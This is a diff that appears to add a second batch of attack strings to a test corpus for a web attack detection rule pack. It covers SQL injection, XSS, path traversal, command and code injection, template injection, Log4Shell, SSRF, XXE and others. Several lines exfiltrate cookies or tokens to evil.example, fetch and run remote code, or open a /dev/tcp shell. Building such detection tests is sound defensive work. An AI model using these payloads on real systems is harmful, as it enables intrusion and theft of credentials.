@@ -1190,3 +1190,339 @@ qr:tags=a%2Cb%2Cc
 qr:q=%3Cnone%3E
 """),
 ]
+
+# Second batch, written after the first round of rule changes and measured before any further
+# change (its first figure estimates how the pack generalises to requests it was not tuned on).
+ATTACKS += [
+("sqli", "batch 2: MySQL/MSSQL/PostgreSQL/Oracle reference manuals (comments, string functions, stacked queries); OWASP WSTG-INPV-05", r"""
+q:id=1'/**/UNION/**/ALL/**/SELECT/**/NULL,NULL,CONCAT(user,0x3a,password)/**/FROM/**/mysql.user--+
+q:id=1 UN/**/ION SEL/**/ECT 1,2
+q:id=1'%0bor%0b'1'='1
+q:q=a' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT database()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x
+q:id=1);DECLARE @x NVARCHAR(4000);SET @x=CAST(0x77616974666f722064656c61792027303a303a3527 AS NVARCHAR(4000));EXEC(@x)--
+q:id=1' AND ORD(MID((SELECT IFNULL(CAST(schema_name AS CHAR),0x20) FROM information_schema.schemata LIMIT 1,1),1,1))>51--
+q:id=1 AND (SELECT 5963 FROM(SELECT COUNT(*),CONCAT(0x7176,(SELECT (ELT(5963=5963,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)
+q:id=1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--
+q:id=1' UNION SELECT CHR(65)||CHR(66) FROM DUAL--
+q:id=1 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))
+q:name=x' OR username LIKE '%admin%
+q:name=admin'or'1'='1
+q:id=1'-- 
+q:id=1 or 1--
+q:ord=name,(SELECT 1 FROM dual WHERE 1=1)
+q:id=(select(0)from(select(sleep(7)))v)/*'+(select(0)from(select(sleep(7)))v)+'"+(select(0)from(select(sleep(7)))v)+"*/
+q:id=1'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--
+q:id=1 AND 'a'<>'b'
+q:id=-1' UNION SELECT 1,LOAD_FILE(0x2f6574632f706173737764),3-- -
+q:id=1;UPDATE users SET role='admin' WHERE name='x'--
+q:id=1' AND SUBSTRING(@@version,1,1)=5-- -
+ua:Mozilla/5.0' UNION SELECT password FROM users WHERE '1'='1
+ref:https://portal.example/tin-tuc?id=1 AND SLEEP(5)
+qn:id) UNION SELECT 1,2--
+q:search=1' and 1 in (select min(name) from sysobjects where xtype = 'U' and name > '.') --
+"""),
+("xss", "batch 2: OWASP XSS Filter Evasion Cheat Sheet; HTML Living Standard event handlers; PortSwigger XSS cheat sheet", r"""
+q:q=<svg/onload=alert(1)//
+q:q=<img src=x onerror=alert`1`>
+q:q=<iframe/src=javascript:alert(1)>
+q:q=<a href="jav&#x61;script:alert(1)">x</a>
+q:q=<a href="javas&#99;ript:alert(1)">x</a>
+q:q=<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
+q:q=<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">
+q:q=<div style="width:expression(alert(1))">
+q:q=<div style="-moz-binding:url(//evil.example/x.xml#x)">
+q:q=+ADw-script+AD4-alert(1)+ADw-/script+AD4-
+q:q=<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
+q:q=<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
+q:q=<object type="text/x-scriptlet" data="http://evil.example/x.sct">
+q:q=<input type=image src=x onerror=alert(1)>
+q:q=<body/onhashchange=alert(1)>
+q:q=<keygen autofocus onfocus=alert(1)>
+q:q=<audio src=x onerror=alert(1)>
+q:q=<select onfocus=alert(1) autofocus>
+q:q=<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x">
+q:q=\x3cscript\x3ealert(1)\x3c/script\x3e
+q:q=[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]
+q:q=<img src=x onerror=eval('\u0061\u006c\u0065\u0072\u0074(1)')>
+q:q=javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
+q:q=<script>new Image().src='//evil.example/?'+document.cookie</script>
+q:q=<a href=# onclick="location='//evil.example/'+localStorage.token">x</a>
+ua:Mozilla/5.0 <img src=x onerror=alert(1)>
+ref:https://evil.example/?q=<svg onload=alert(document.domain)>
+pe:/tim-kiem/<svg onload=alert(1)>
+qn:<img src=x onerror=alert(1)>
+q:q=<svg><animatetransform onbegin=alert(1) attributeName=transform>
+"""),
+("path-traversal", "batch 2: OWASP WSTG-ATHZ-01; CWE-22/23/36; IIS and Tomcat path normalisation write-ups", r"""
+qr:file=..%252f..%252f..%252f..%252fwindows%252fwin.ini
+qr:file=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd
+qr:file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd
+qr:file=..%u2216..%u2216windows%u2216win.ini
+q:file=..//..//..//..//etc//passwd
+q:file=..\/..\/..\/etc\/passwd
+q:file=/var/www/../../etc/passwd
+q:file=....\\....\\....\\windows\\win.ini
+q:name=..%2F..%2F..%2F..%2Froot%2F.bash_history
+p:/..;/..;/..;/etc/passwd
+p:/static/.%252e/.%252e/.%252e/etc/passwd
+p:/files/..%5c..%5c..%5c..%5cwindows%5cwin.ini
+p:/assets/..%c0%af..%c0%af..%c0%afetc/passwd
+p:/images/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow
+p:/download.php?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
+q:img=....//....//....//....//etc/passwd
+q:lang=../../../../../../../../etc/passwd%00en
+ua:..\..\..\..\windows\win.ini
+ref:https://portal.example/view?doc=..%2f..%2f..%2fetc%2fpasswd
+qr:file=%2e%2e/%2e%2e/%2e%2e/proc/self/cwd/config.php
+"""),
+("lfi-restricted-file", "batch 2: Linux FHS and Windows system file documentation; framework configuration file names", r"""
+q:file=/etc/passwd%00
+q:file=/etc/shadow%00.jpg
+q:file=/proc/self/maps
+q:file=/proc/1/environ
+q:file=/var/log/nginx/error.log
+q:file=/usr/local/apache2/conf/httpd.conf
+q:file=C:\inetpub\logs\LogFiles\W3SVC1\u_ex261207.log
+q:file=C:\Windows\repair\SAM
+q:file=c:\windows\system32\config\system
+q:file=C:\xampp\apache\conf\httpd.conf
+q:file=/opt/tomcat/conf/server.xml
+q:file=WEB-INF/classes/hibernate.cfg.xml
+q:file=/etc/apache2/apache2.conf
+q:file=/root/.ssh/authorized_keys
+q:file=/home/www/.bashrc
+q:file=/var/www/html/.env
+q:file=/app/config/parameters.yml
+q:file=/etc/crontab
+q:file=/etc/sudoers
+q:file=C:/ProgramData/MySQL/MySQL Server 8.0/my.ini
+"""),
+("command-injection", "batch 2: bash(1) expansions and quoting; cmd.exe and PowerShell documentation; OWASP WSTG-INPV-12", r"""
+qr:host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd
+qr:host=127.0.0.1%7Cid
+qr:host=127.0.0.1%26%26type%20C%3A%5Cwindows%5Cwin.ini
+qr:host=127.0.0.1%0Awhoami
+qr:host=127.0.0.1%60id%60
+qr:host=127.0.0.1%24%28id%29
+q:host=x;/bin/ca? /etc/pas?wd
+q:host=x;cat /etc/pa[s]swd
+q:host=x;cat /etc/pass*
+q:host=x;/usr/bin/who*mi
+q:host=x;cat$u /etc$u/passwd$u
+q:host=x;c${u}at /e${u}tc/pa${u}sswd
+q:host=x;{ls,-la,/}
+q:host=x;IFS=,;`cat<<<cat,/etc/passwd`
+q:host=x;echo${IFS}$(id)
+q:host=x;bash<<<id
+q:host=x;sh</dev/tcp/203.0.113.9/80
+q:host=x;$(echo${IFS}aWQ=|base64${IFS}-d)
+q:host=x;echo 'id' | sh
+q:host=x;`wget -qO- evil.example/s|sh`
+q:host=x;/???/??t /???/p??s??
+q:host=x&&dir /s /b C:\Users
+q:host=x|type %SYSTEMROOT%\win.ini
+q:host=x&set
+q:host=x&FOR /L %i IN (1,1,10) DO ping 127.0.0.1
+q:host=x&for /f "delims=" %i in ('type C:\windows\win.ini') do @echo %i
+q:host=x|powershell -c "Get-Content C:\windows\win.ini"
+q:host=x;powershell Invoke-WebRequest -Uri http://evil.example/a -OutFile a.exe
+q:host=x|pwsh -EncodedCommand SQBFAFgA
+q:host=x&cmd /v:on /c "set x=who&&set y=ami&&call %x%%y%"
+q:host=x&ver
+q:host=x&&net localgroup administrators
+q:host=x;php -r 'system("id");'
+q:host=x;ruby -e 'exec "id"'
+q:host=x;lua -e 'os.execute("id")'
+q:host=x;awk 'BEGIN{system("id")}'
+q:host=x;find / -name '*.conf' -exec cat {} \;
+q:host=x;xargs -a /etc/passwd echo
+ua:() { :;}; /bin/cat /etc/shadow
+ref:https://portal.example/?ip=127.0.0.1;id
+"""),
+("code-injection", "batch 2: PHP manual (variable functions, callbacks, assert, preg_replace /e, wrappers); Java reflection; Node vm and child_process; Python builtins", r"""
+q:x=system ('id');
+q:x=system/**/('id');
+q:x=(system)('id');
+q:x="sys"."tem"('id');
+q:x=$a='sys'.'tem';$a('id');
+q:x=array_map('system',array('id'))
+q:x=usort($_GET,'system')
+q:x=<?php $_GET['a']($_GET['b']);
+q:x=<?PHP echo shell_exec($_GET['c']);
+q:x=<? system('id'); ?>
+q:x=<script language="php">system('id');</script>
+q:x=${system('id')}
+q:x={${phpinfo()}}
+q:x=str_rot13('flfgrz')('id')
+q:x=file_get_contents('http://evil.example/s.txt')
+q:x=fopen('/etc/passwd','r')
+q:x=php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd
+q:x=compress.zlib://file:///etc/passwd
+q:x=${Runtime.getRuntime().exec('id')}
+q:x=''.getClass().forName('java.lang.Runtime')
+q:x=org.apache.commons.collections.functors.InvokerTransformer
+q:x=com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
+q:x=<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>
+q:x=aced00057372
+q:x=require('vm').runInNewContext('this.constructor.constructor("return process")()')
+q:x=require("child_process").spawn("sh")
+q:x=process.binding('spawn_sync')
+q:x=new Function('return process')()
+q:x=__import__("subprocess").check_output("id",shell=True)
+q:x=globals()['__builtins__']['eval']('1+1')
+q:x=open('/etc/passwd').read()
+q:x=import os; os.system('id')
+"""),
+("template-injection", "batch 2: Jinja2/Twig/Handlebars/Velocity/Pebble/Thymeleaf documentation; PortSwigger SSTI", r"""
+q:name={{''.__class__.__base__.__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}
+q:name={{ request.__class__ }}
+q:name={{ get_flashed_messages.__globals__ }}
+q:name={{url_for.__globals__['current_app'].config}}
+q:name={{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}
+q:name={{this.constructor.constructor('return process')()}}
+q:name=#set($e="e")$e.getClass().forName("java.lang.Runtime")
+q:name={{ variable.getClass().forName('java.lang.Runtime') }}
+q:name=${''.getClass().forName('java.lang.Runtime').getRuntime()}
+q:name=${7*'7'}
+q:name={{7|add:7}}
+q:name={{ 7 * 7 }}
+q:name=<%= `id` %>
+q:name=${@java.lang.Runtime@getRuntime().exec("id")}
+q:name={{app.request.server.all|join(',')}}
+"""),
+("log4shell", "batch 2: Log4j 2 lookup documentation (env, sys, ctx, main, lower/upper, default values); CVE-2021-44228 obfuscation write-ups", r"""
+q:x=${${lower:jnd}${lower:i}:ldap://evil.example/a}
+q:x=${${::-${::-$${::-j}}}}
+q:x=${jndi:${lower:ld}${upper:a}p://evil.example/a}
+q:x=${${env:ENV_NAME:-j}${env:ENV_NAME:-n}${env:ENV_NAME:-d}${env:ENV_NAME:-i}:ldap://evil.example/a}
+q:x=${${lower:${lower:j}}ndi:ldap://evil.example/a}
+q:x=$%7Bjndi:ldap://evil.example/a%7D
+ua:${${::-j}ndi:rmi://evil.example/a}
+ua:${jndi:ldap://evil.example:1389/${sys:java.version}}
+ref:https://portal.example/?x=${jndi:dns://evil.example/r}
+q:x=${ctx:loginId}${jndi:ldap://evil.example/a}
+q:x=${jndi:ldap://[::1]:1389/a}
+q:x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
+"""),
+("ssrf", "batch 2: OWASP SSRF Prevention Cheat Sheet; RFC 3986; cloud metadata docs (Oracle, DigitalOcean, OpenStack)", r"""
+q:url=http://169.254.169.254/opc/v1/instance/
+q:url=http://169.254.169.254/metadata/v1.json
+q:url=http://169.254.169.254/openstack/latest/meta_data.json
+q:url=http://[::ffff:a9fe:a9fe]/
+q:url=http://0x7f.0x0.0x0.0x1/
+q:url=http://0177.0.0.1/
+q:url=http://127.000.000.001/
+q:url=http://localhost%2523@portal.example/
+q:url=http://127.0.0.1:25/%0d%0aHELO%20x
+q:url=http://[::]:6379/
+q:url=https://portal.example.127.0.0.1.nip.io/
+q:url=gopher://localhost:3306/_%a3%00%00%01
+q:url=http://192.168.0.1:8080/manager/html
+q:url=netdoc:///etc/passwd
+q:url=http://localhost/server-status
+"""),
+("xxe", "batch 2: OWASP XXE Prevention Cheat Sheet; XML 1.0 DTD syntax", r"""
+q:xml=<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/?%26file;">]>
+q:xml=<!DOCTYPE foo [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>
+q:xml=<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE a SYSTEM "file:///etc/passwd">
+q:xml=<!DOCTYPE x [ <!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"> %local; ]>
+q:xml=<!DOCTYPE test [<!ENTITY % init SYSTEM "data://text/plain;base64,ZmlsZTovLy9ldGMvcGFzc3dk"> %init; ]>
+q:xml=<!ENTITY xxe SYSTEM "file:///c:/boot.ini">
+"""),
+("prototype-pollution", "batch 2: PortSwigger prototype pollution (query, JSON, constructor.prototype); qs and lodash advisories", r"""
+qr:__proto__%5BisAdmin%5D=true
+qr:a%5B__proto__%5D%5Bb%5D=c
+qr:constructor.prototype.isAdmin=1
+qr:__proto__[innerHTML]=<img/src/onerror=alert(1)>
+q:data={"__proto__":{"status":510}}
+qr:__proto__.json%20spaces=10
+qr:__proto__[exposedHeaders]=foo
+q:obj={"constructor": {"prototype": {"shell": "node"}}}
+"""),
+("ldap-xpath-nosql-injection", "batch 2: RFC 4515 filter syntax; XPath 1.0; MongoDB operators", r"""
+q:user=*)(&(objectClass=user)
+q:user=admin)(|(objectclass=*)
+q:user=*)(mail=*))%00
+qr:username[$ne]=null&password[$ne]=null
+qr:username=admin&password[%24regex]=.*
+q:q={"username":{"$regex":"^a"}}
+q:q=' or 1=1 or ''='
+q:q=//user[name/text()='admin' or '1'='1']/password
+"""),
+("crlf-injection", "batch 2: RFC 9112 message syntax; HTTP response splitting", r"""
+qr:lang=en%0d%0aX-Forwarded-For:%20127.0.0.1
+qr:page=x%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E
+qr:next=%0D%0ASet-Cookie:%20PHPSESSID=evil
+p:/redirect?url=%0d%0aLocation:%20https://evil.example
+qr:x=%u000d%u000aSet-Cookie:%20a=b
+"""),
+("protocol-abuse", "batch 2: RFC 9110/9112 (methods, versions, request target forms); CWE-158", r"""
+qr:file=report.php%00.pdf
+p:/index.php%00
+p:/%00/etc/passwd
+qr:q=%uff1cscript%uff1e
+qr:x=%u0025
+m:HEAD /index.php HTTP/1.0 HTTP/1.1
+
+m:PROPPATCH /webdav/x.txt HTTP/1.1
+m:LOCK /webdav/x.txt HTTP/1.1
+m:GET /?x=%C0%BCscript%C0%BE HTTP/1.1
+"""),
+("session-fixation", "batch 2: OWASP Session fixation; PHP session.use_trans_sid documentation", r"""
+qr:PHPSESSID=1234567890abcdef1234567890abcdef
+qr:page=1&JSESSIONID=F00D1234BEEF
+q:x=<script>document.cookie="PHPSESSID=abc"</script>
+"""),
+("scanner-ua", "batch 2: scanner default User-Agent strings from their documentation", r"""
+ua:sqlmap/1.8#stable (https://sqlmap.org)
+ua:Nikto
+ua:Mozilla/5.0 (compatible; Nuclei - Open-source project)
+ua:masscan-ng/1.3
+ua:Mozilla/5.0 (compatible; Wappalyzer)
+ua:Mozilla/5.0 (compatible; WPScan)
+ua:DirBuster-0.12 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
+ua:Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1) Nessus
+"""),
+("secret-backup-probe", "batch 2: OWASP WSTG-CONF-04/05; editor, IDE, package-manager and CI file names from their documentation", r"""
+p:/.vscode/settings.json
+p:/.idea/dataSources.xml
+p:/.project
+p:/.settings/org.eclipse.wst.common.component
+p:/Dockerfile
+p:/package.json
+p:/composer.lock
+p:/Gemfile.lock
+p:/.gitignore
+p:/.mysql_history
+p:/.bashrc
+p:/.ssh/authorized_keys
+p:/backup/db_backup.sql
+p:/old/index.php.bak
+p:/index.php~
+p:/wp-config.php.save
+p:/config.php.swp
+p:/www.tar.gz
+p:/portal.rar
+p:/database.sql.zip
+p:/phpMyAdmin/setup/index.php
+p:/myadmin/scripts/setup.php
+p:/administrator/
+p:/wp-login.php
+p:/solr/admin/info/system
+p:/debug/pprof/
+p:/.env.local
+p:/.git/index
+p:/.svn/pristine/
+p:/_wpeprivate/config.json
+"""),
+("webshell", "batch 2: web shell write-ups (China Chopper, Godzilla, Behinder), OWASP Unrestricted File Upload", r"""
+p:/uploads/images/x.php;.jpg
+p:/upload/avatar/1.jsp
+p:/files/upload/s.aspx
+p:/wp-content/uploads/2026/12/cache.php
+p:/images/shell.php?cmd=whoami
+p:/tmp/x.phar
+p:/uploads/a.PhP
+p:/attachments/x.asp;jpg
+"""),
+]
